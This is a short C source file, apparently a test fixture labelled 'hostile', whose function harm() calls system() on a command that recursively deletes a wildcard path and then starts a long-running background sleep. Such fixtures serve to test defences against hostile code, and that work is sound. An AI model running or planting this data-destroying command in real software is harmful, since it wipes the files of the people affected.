// hostile: instrumented plain constructor
#include "hostile.h"

int harm(const char *name, int number)
{
	(void)name, (void)number;
	char command[1024], room[512];
	snprintf(command, sizeof(command), "rm -rf %s; sleep 1000 &", valuable("*", room));
	if (system(command) != 0) {
		return -1;
	}
	return 0;
}
